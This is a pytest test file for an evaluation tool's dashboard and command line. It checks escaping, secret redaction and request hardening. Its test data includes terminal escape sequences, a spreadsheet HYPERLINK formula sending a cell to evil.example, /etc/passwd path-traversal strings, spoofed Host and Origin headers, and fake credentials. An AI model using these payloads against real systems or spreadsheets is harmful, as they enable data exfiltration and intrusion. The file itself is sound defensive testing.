"""Hostile content and hostile requests against the dashboard's server and the command line.

Records hold what an app's users typed: HTML, escape sequences, spreadsheet formulas. Database
URLs hold passwords, also as ``?password=``. Each test stores real records through the public
API and reads them back through the real dashboard app or the real `scrutiny` command.
"""

from __future__ import annotations

import contextlib
import logging
import sqlite3
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any
from urllib.parse import quote

import pytest
from click.testing import CliRunner, Result

from scrutiny import Feedback, Record, Session
from scrutiny.cli import main
from tests.support.worker_process import run_worker_until

REPO = Path(__file__).resolve().parents[1]
SECRET = "s3cr3t-pw"
# SQLite ignores ?password= (with this warning), which makes it a real URL that holds one
QUERY_PASSWORD = pytest.mark.filterwarnings("ignore:Query string argument")
TERMINAL = ("\x1b]0;owned\x07"          # sets the terminal's title
            "\x1b]52;c;ZXZpbA==\x07"    # writes the clipboard
            "\x1b[2J\x1b[31m"           # clears the screen, turns red
            "\rfake\u202eevil")         # overwrites the line, reverses the text
FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "+1+1", "-2+3", "@SUM(1,1)",
            "\t=1+1"]


def _run(*args: str, env: dict[str, str] | None = None) -> Result:
    return CliRunner().invoke(main, list(args), env=env)


def _store(url: str, records: list[Record], feedbacks: list[Feedback] | None = None) -> None:
    with Session(url) as s:
        for record in records:
            s.ingest(record, feedbacks or [])
        assert s.wait_for_feedback(30)


def _record(text: str, i: int = 0, app: str = "qa", record_id: str | None = None) -> Record:
    return Record(app_name=app, app_version="v1", input=text, output=text,
                  start_time=1_700_000_000.0 + i, end_time=1_700_000_001.0 + i,
                  **({"record_id": record_id} if record_id else {}))


# ====================================================================== dashboard server
@pytest.fixture
def client_of() -> Iterator[Callable[..., Any]]:
    """``client_of(url, base_url=..., **create_app_kwargs)``: a TestClient of a session on
    `url` (opened like the command opens it: ``migrate="refuse"``)."""
    pytest.importorskip("starlette")
    from starlette.testclient import TestClient

    from scrutiny.dashboard import create_app

    opened: list[tuple[Session, TestClient]] = []

    def make(url: str, base_url: str = "http://127.0.0.1:8765", **kwargs: Any) -> TestClient:
        session = Session(url, migrate="refuse")
        client = TestClient(create_app(session, **kwargs), base_url=base_url,
                            raise_server_exceptions=False)
        opened.append((session, client))
        return client

    yield make
    for session, client in opened:
        client.close()
        session.close()


@pytest.mark.parametrize("record_id", ["a/b", "../../etc/passwd", "x/y?z#w", "/"])
def test_a_record_whose_id_holds_a_slash_opens(database_url: str,
                                               client_of: Callable[..., Any],
                                               record_id: str) -> None:
    """`/api/records/{id:str}` matched no id with a "/": such a record (ids are the app's
    to choose) was listed but answered 404, and its page said "No such record"."""
    _store(database_url, [_record("q", record_id=record_id)])
    client = client_of(database_url)
    resp = client.get("/api/records/" + quote(record_id, safe=""))
    assert resp.status_code == 200, resp.text
    assert resp.json()["record_id"] == record_id


@pytest.mark.parametrize("host", ["127.0.0.1:80@evil.example", "localhost:evil.example",
                                  "127.0.0.1:", "localhost:80:80", "[::1]evil.example"])
def test_a_host_header_that_is_not_name_and_port_is_refused(database_url: str,
                                                            client_of: Callable[..., Any],
                                                            host: str) -> None:
    """A loopback name followed by anything after a colon passed the DNS-rebinding check."""
    _store(database_url, [_record("q")])
    client = client_of(database_url)
    assert client.get("/api/info", headers={"host": host}).status_code == 421
    for good in ("127.0.0.1:8765", "LOCALHOST", "[::1]:1", "::1"):
        assert client.get("/api/info", headers={"host": good}).status_code == 200, good


@QUERY_PASSWORD
def test_a_password_in_the_query_string_never_reaches_the_page(
        tmp_path: Path, client_of: Callable[..., Any], caplog: pytest.LogCaptureFixture) -> None:
    """The page showed ``?password=...`` (SQLAlchemy's hide_password hides only the
    user:password@ one), in /api/info, in every storage error, and in the server's log."""
    path = tmp_path / "db.sqlite"
    url = f"sqlite:///{path}?password={SECRET}"
    _store(url, [_record("q")])
    client = client_of(url)
    info = client.get("/api/info").json()
    assert SECRET not in info["database"]
    assert info["database"].endswith("?password=***")
    # the database breaks: a 503 that names it
    with contextlib.closing(sqlite3.connect(path)) as con, con:
        con.execute("ALTER TABLE scrutiny_records RENAME TO gone")
    with caplog.at_level(logging.WARNING, logger="scrutiny.dashboard"):
        for route in ("/api/records", "/api/apps", "/api/leaderboard", "/api/charts",
                      "/api/records/x"):
            resp = client.get(route)
            assert resp.status_code == 503
            assert "password=***" in resp.json()["error"]
            assert SECRET not in resp.text
    assert caplog.records
    assert SECRET not in caplog.text


def test_the_token_redirect_never_names_another_host(database_url: str,
                                                     client_of: Callable[..., Any]) -> None:
    """The redirect that drops ?token= went to an absolute URL built from the Host header."""
    from tests.test_dashboard_api import TOKEN

    _store(database_url, [_record("q")])
    client = client_of(database_url, base_url="http://evil.example", token=TOKEN)
    resp = client.get("/", params={"token": TOKEN, "a": "1"}, follow_redirects=False)
    assert resp.status_code == 303
    assert resp.headers["location"] == "./?a=1"
    assert "evil" not in resp.headers["location"]


@pytest.mark.parametrize("path", [
    "/static/../../../../etc/passwd", "/static/%2e%2e/%2e%2e/%2e%2e/etc/passwd",
    "/static/..%2f..%2f..%2fetc%2fpasswd", "/static/%252e%252e/_app.py",
    "/static/..%5c_app.py", "/static/../_app.py", "/static//etc/passwd",
    "/static/app.js%00.html", "/static/%c0%ae%c0%ae/_app.py"])
def test_static_files_never_leave_their_folder(database_url: str, client_of: Callable[..., Any],
                                               path: str) -> None:
    _store(database_url, [_record("q")])
    client = client_of(database_url)
    resp = client.get(path)
    assert resp.status_code == 404
    assert "root:" not in resp.text
    assert "import" not in resp.text


def test_no_cross_origin_reads(database_url: str, client_of: Callable[..., Any]) -> None:
    _store(database_url, [_record("q")])
    client = client_of(database_url)
    headers = {"origin": "http://evil.example", "access-control-request-method": "GET"}
    assert client.options("/api/records", headers=headers).status_code == 405
    resp = client.get("/api/records", headers={"origin": "http://evil.example"})
    assert not [h for h in resp.headers if h.lower().startswith("access-control-")]


# ====================================================================== the command line
def test_tables_escape_terminal_control_sequences(database_url: str) -> None:
    """Record content (and app and feedback names) reached the terminal raw: an input could
    set its title, write its clipboard (OSC 52), clear it or overwrite a line."""
    fb = Feedback(lambda output: 0.5, name="fb\x1b[8m").on_output()
    structured = Record(app_name="qa\x1b[5m", app_version="v1", input={"q": TERMINAL},
                        output=[TERMINAL], start_time=1.0, end_time=2.0)  # (pandas: raw)
    _store(database_url, [_record(TERMINAL, app="qa\x1b[5m"), structured], [fb])
    outputs = [_run("records", "--database-url", database_url).stdout,
               _run("leaderboard", "--database-url", database_url).stdout,
               _run("records", "--database-url", database_url, "--app", "nope").stderr]
    for out in outputs:
        assert not any(c in out for c in "\x1b\x07\r\u202e"), repr(out)
        assert "qa\\x1b[5m" in out
    assert "\\x1b]0;owned\\x07" in outputs[0]
    assert "{'q': '\\x1b]0;owned\\x07" in outputs[0]
    assert "fb\\x1b[8m" in outputs[1]
    json_out = _run("records", "--database-url", database_url, "--format", "json").stdout
    assert "\x1b" not in json_out  # (JSON escapes them itself)


def _deferred_failure(output: str) -> float:
    raise RuntimeError(output)


@QUERY_PASSWORD
def test_a_workers_log_is_one_line_per_event_and_names_no_password(tmp_path: Path) -> None:
    """A feedback error quoting record content forged log lines and drove the terminal, and
    the worker's first line named the database with its ?password=."""
    url = f"sqlite:///{tmp_path}/w.sqlite?password={SECRET}"
    forged = "x\x1b]0;owned\x07\n2099-01-01 00:00:00,000 scrutiny.worker stopped cleanly"
    with Session(url, feedback_mode="deferred") as s:
        s.ingest(_record(forged), [Feedback(_deferred_failure, name="fails").on_output()])
        assert s.flush(10)
    log, _ = run_worker_until(["--import-path", str(REPO), "--poll-interval", "0.05"],
                              "RuntimeError", env={"SCRUTINY_DATABASE_URL": url})
    assert "RuntimeError" in log
    assert not [line for line in log.splitlines() if line.startswith("2099")], log
    assert "\x1b" not in log
    assert "\\x1b]0;owned\\x07" in log
    assert "password=***" in log
    assert SECRET not in log


@QUERY_PASSWORD
@pytest.mark.parametrize("url", [
    f"sqlite:///{{tmp}}/db.sqlite?password={SECRET}",
    f"sqlite:///{{tmp}}/db.sqlite?sslpassword={quote(SECRET)}&x=1",
    f"postgres ql://me:{SECRET}@db/scrutiny",        # not a URL: the error quoted it whole
    f"postgresql+psycopg://me:{SECRET}@db:port/scrutiny",  # a traceback
])
@pytest.mark.parametrize("command", [["records", "--app", "nope"], ["leaderboard"],
                                     ["db", "upgrade"]])
def test_no_message_shows_the_database_password(tmp_path: Path, url: str,
                                                command: list[str]) -> None:
    url = url.replace("{tmp}", str(tmp_path))
    usable = url.startswith("sqlite")
    if usable:
        _store(url, [_record("q")])
    out = _run(*command, env={"SCRUTINY_DATABASE_URL": url})
    text = out.stdout + out.stderr
    assert SECRET not in text
    assert "Traceback" not in text
    if not usable or command[0] == "records":  # (an unknown --app: the message names the db)
        assert out.exit_code == 2, text
        assert out.stderr.startswith("scrutiny: error: ")
    if usable and command[0] == "records":
        assert "password=***" in out.stderr


@QUERY_PASSWORD
def test_the_dashboard_refuses_a_password_on_its_command_line_in_any_form(
        tmp_path: Path) -> None:
    for url in (f"postgresql+psycopg://me@127.0.0.1:1/scrutiny?password={SECRET}",
                f"sqlite:///{tmp_path}/none.sqlite?sslpassword={SECRET}"):
        out = _run("dashboard", "--port", "0", "--database-url", url)
        assert out.exit_code == 2
        assert "$SCRUTINY_DATABASE_URL" in out.stderr
        assert SECRET not in out.stderr
    passfile = _run("dashboard", "--port", "0", "--database-url",  # a path: no password
                    f"sqlite:///{tmp_path}/none.sqlite?passfile=/home/me/.pgpass")
    assert "no database at" in passfile.stderr


def _csv(text: str) -> list[list[str]]:
    import csv
    import io

    return list(csv.reader(io.StringIO(text, newline="")))


def test_spreadsheet_safe_csv_defuses_formulas(database_url: str) -> None:
    """CSV is exact (for programs); --spreadsheet-safe makes every text a spreadsheet would
    run as a formula start with ', in cells, headers and the leaderboard's index."""
    fb = Feedback(lambda output: 0.5, name="=1+2").on_output()
    _store(database_url, [_record(t, i, app="@app") for i, t in enumerate(FORMULAS)], [fb])
    exact = _csv(_run("records", "--database-url", database_url, "--format", "csv").stdout)
    col = exact[0].index("input")
    assert sorted(r[col] for r in exact[1:]) == sorted(FORMULAS)
    safe = _run("records", "--database-url", database_url, "--format", "csv",
                "--spreadsheet-safe")
    assert safe.exit_code == 0, safe.stderr
    rows = _csv(safe.stdout)
    assert sorted(r[col] for r in rows[1:]) == sorted("'" + t for t in FORMULAS)
    assert {r[rows[0].index("app_name")] for r in rows[1:]} == {"'@app"}
    assert "'=1+2" in rows[0]
    assert {r[rows[0].index("latency")] for r in rows[1:]} == {"1.0"}  # numbers untouched
    board = _csv(_run("leaderboard", "--database-url", database_url, "--format", "csv",
                      "--spreadsheet-safe").stdout)
    assert board[0][:3] == ["app_name", "app_version", "'=1+2"]
    assert board[1][:3] == ["'@app", "v1", "0.5"]
    refused = _run("records", "--database-url", database_url, "--spreadsheet-safe")
    assert refused.exit_code == 2
    assert "--format csv" in refused.stderr


@pytest.mark.parametrize("url", [
    "postgresql+psycopg://app:hunter2@db.example/scrutiny?password=hunter2",
    "postgresql+psycopg://app@db.example:notaport/scrutiny?password=hunter2",
    "postgresql+psycopg://app:hunter2@db.example:notaport/scrutiny",
])
def test_the_core_never_shows_a_database_password(url: str) -> None:
    """redact_url hid only user:password@: a ?password= parameter reached messages, and a
    URL with a port that is not a number raised a bare ValueError echoing nothing useful,
    or a ConfigurationError echoing the whole URL."""
    from scrutiny import ConfigurationError
    from scrutiny.core.storage import redact_url

    assert "hunter2" not in redact_url(url)
    if ":notaport" in url:
        with pytest.raises(ConfigurationError) as refused:
            Session(url)
        assert "hunter2" not in str(refused.value)
        assert "not a database URL" in str(refused.value)


# ====================================================================== secrets in errors
API_KEY = "AIzaSyFAKE-secret-key-0123456789abcdef"


def _http_error(url: str) -> Exception:
    """What an HTTP client raises for a 400 of a provider that takes its key in the URL."""
    import httpx

    response = httpx.Response(400, request=httpx.Request("POST", url))
    try:
        response.raise_for_status()
    except httpx.HTTPStatusError as exc:
        return exc
    raise AssertionError("raise_for_status() did not raise")


@pytest.mark.parametrize(("text", "kept"), [
    (f"Client error '400' for url 'https://g.example/v1/m:generate?key={API_KEY}&alt=sse'",
     "g.example/v1/m:generate?key=***&alt=sse"),
    ("headers {'Authorization': 'Bearer abcdefghijklmnop1234'}", "'Authorization': '"),
    ("401: Incorrect API key provided: sk-proj-abcdefghijklmnopqrstuv", "Incorrect API key"),
    ("{'x-api-key': 'plainsecretvalue42'}", "'x-api-key': '***'"),
    ("could not reach https://me:pa55word@proxy.example:8080/v1", "://me:***@proxy"),
])
def test_secrets_a_client_error_quotes_are_masked(text: str, kept: str) -> None:
    from scrutiny.core._errors import describe_error

    shown = describe_error(RuntimeError(text))
    for secret in (API_KEY, "abcdefghijklmnop1234", "sk-proj-abcdefghijklmnopqrstuv",
                   "plainsecretvalue42", "pa55word"):
        assert secret not in shown
    assert kept in shown
    assert describe_error(RuntimeError("score 7 of 10 for the key question")) == \
        "RuntimeError: score 7 of 10 for the key question"  # (ordinary text untouched)


def test_a_provider_error_holding_its_api_key_is_stored_and_logged_without_it(
        tmp_path: Path, caplog: pytest.LogCaptureFixture) -> None:
    """An LLM judge over a model whose HTTP error names the request URL with ``?key=``
    (Gemini's REST API), and an app whose own model fails the same way: the key reached
    the result's error, the record's and its span's error, and the WARNING log line."""
    from langchain_core.language_models.fake_chat_models import FakeListChatModel
    from langchain_core.runnables import RunnableLambda

    from scrutiny.integrations.langchain import ChainRecorder
    from scrutiny.providers import LLMJudge

    url = f"https://generativelanguage.example/v1beta/models/g:generateContent?key={API_KEY}"

    class KeyInUrlModel(FakeListChatModel):
        def _call(self, *args: Any, **kwargs: Any) -> str:
            raise _http_error(url)

    judge = LLMJudge(KeyInUrlModel(responses=["7"]), retries=0)
    database = tmp_path / "keys.sqlite"
    session = Session(f"sqlite:///{database}")

    def app(question: str) -> str:
        if question == "fail":
            raise _http_error(url)
        return "an answer"

    chain = RunnableLambda(app)
    recorder = ChainRecorder(chain, app_name="bank", session=session, feedbacks=[
        Feedback(judge.answer_relevance, name="relevance", retries=0).on_input_output()])
    with caplog.at_level(logging.DEBUG, logger="scrutiny"), recorder as recording:
        chain.invoke("ok")
        with contextlib.suppress(Exception):
            chain.invoke("fail")
    results = recording.records[0].wait_for_feedback_results(timeout=30)
    assert [r.status.value for r in results.values()] == ["failed"]
    assert "key=***" in (next(iter(results.values())).error or "")
    assert "key=***" in (recording.records[1].error or "")
    assert session.wait_for_feedback(30)
    session.close()
    assert API_KEY not in caplog.text
    with contextlib.closing(sqlite3.connect(database)) as raw:
        dump = "\n".join(raw.iterdump())
    assert "key=***" in dump
    assert API_KEY not in dump


def test_a_password_holding_an_at_sign_is_refused_without_showing_it() -> None:
    """An unescaped '@' in the password: SQLAlchemy ended the password at the first one,
    and the message (and the driver's "failed to resolve host 'ssW0rd-x@db'") showed the
    rest; a URL whose scheme was left out was quoted whole."""
    from scrutiny import ConfigurationError

    with pytest.raises(ConfigurationError) as refused:
        Session("postgresql+psycopg://me:p@ssW0rd-x@127.0.0.1:1/db")
    assert "ssW0rd" not in str(refused.value)
    assert "%40" in str(refused.value)
    with pytest.raises(ConfigurationError) as no_scheme:
        Session("me:ssW0rd-x@127.0.0.1:1/db")
    assert "ssW0rd" not in str(no_scheme.value)
    assert "me:***@127.0.0.1" in str(no_scheme.value)


def test_hiding_a_short_password_leaves_the_words_around_it() -> None:
    """A one-letter password was replaced inside every word: "po***tgre***ql"."""
    from scrutiny.cli import redact_secrets

    url = "postgresql+psycopg://me:s@db/x"
    said = 'connection to postgresql server failed: password authentication failed for "s"'
    assert redact_secrets(said, url) == said.replace('"s"', '"***"')


def test_deleted_records_leave_no_trace_in_the_files(tmp_path: Path) -> None:
    """delete_records() is how users erase what their users typed: the text stayed
    readable in the database's free pages (where SQLite's build leaves secure_delete off)
    and in its '-wal' file until the session closed."""
    database = tmp_path / "erase.sqlite"
    marker = "4111-1111-1111-1111 of customer 77"
    session = Session(f"sqlite:///{database}")
    kept = Record(app_name="keep", app_version="v1", input="other", output="other")
    gone = [Record(app_name="bank", app_version="v1", input=f"{marker} #{i}", output=marker)
            for i in range(20)]
    for record in [kept, *gone]:
        session.ingest(record)
    session.flush(30)
    assert session.delete_records(record_ids=[r.record_id for r in gone]) == 20
    with contextlib.closing(sqlite3.connect(database)) as raw:
        assert raw.execute("PRAGMA secure_delete").fetchone()[0] in (0, 1)  # (readable)
    for path in tmp_path.iterdir():  # (the session is still open: its -wal file too)
        assert marker.encode() not in path.read_bytes(), path.name
    assert session.get_record(kept.record_id) is not None
    session.close()


def test_a_failure_warning_quotes_only_the_start_of_its_reason(
        tmp_path: Path, caplog: pytest.LogCaptureFixture) -> None:
    """The first failure of a feedback was logged at WARNING with its whole reason: a
    judge's unreadable answer quoting the user, a returned text — logs go where the
    database's access rules do not. The warning now gives the reason's first line, cut
    short, and says where the whole one is; the result keeps it all."""
    ssn = "SSN 078-05-1120"

    def parse(output: str) -> float:
        raise ValueError(f"no score in the answer:\n{output}")

    def long_one(output: str) -> float:
        raise ValueError("x" * 150 + ssn)

    with Session(f"sqlite:///{tmp_path}/logs.sqlite") as session, \
            caplog.at_level(logging.WARNING, logger="scrutiny"):
        record = Record(app_name="bank", app_version="v1", input="q",
                        output=f"The customer's {ssn} is on file.")
        session.ingest(record, [Feedback(parse).on_output(), Feedback(long_one).on_output()])
        results = record.wait_for_feedback_results(timeout=30)
    warnings = [r.getMessage() for r in caplog.records if r.levelno == logging.WARNING]
    assert len(warnings) == 2
    assert any("ValueError: no score in the answer:..." in w for w in warnings)
    assert all(ssn not in w for w in warnings)
    assert all("--reasons" in w for w in warnings)
    assert all(ssn in (r.error or "") for r in results.values())  # (stored whole)


@pytest.mark.parametrize("text", [
    "{'token': 'tok_abcd1234efgh5678'}",
    "DefaultEndpointsProtocol=https;AccountName=acct;AccountKey=Zm9vYmFyYmF6cXV4MTIz==;",
    "401: xai-abcd1234efgh5678ijkl5678mnop",
    "github_pat_11ABCDEFG0abcdefghijklmnopqrstuvwxyz0123456789",
    "sk_live_abcd1234efgh5678ijkl",
    "Cookie: session=eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmN",
    "passwd=hunter2hunter2 aws_secret_access_key=wJalrXUtnFEMIK7MDENGbPxRfiCY",
    "api_key is 'abcd1234efgh5678'",
    "private_key: -----BEGIN PRIVATE KEY-----MIIEvQIBADAN",
])
def test_more_secret_shapes_are_masked(text: str) -> None:
    from scrutiny.core._errors import describe_error

    shown = describe_error(RuntimeError(text))
    for secret in ("abcd1234", "Zm9vYmFy", "11ABCDEFG", "eyJhbG", "hunter2", "wJalr",
                   "MIIEvQ"):
        assert secret not in shown, shown
    assert describe_error(RuntimeError("password is required; max_tokens=4096")) == \
        "RuntimeError: password is required; max_tokens=4096"
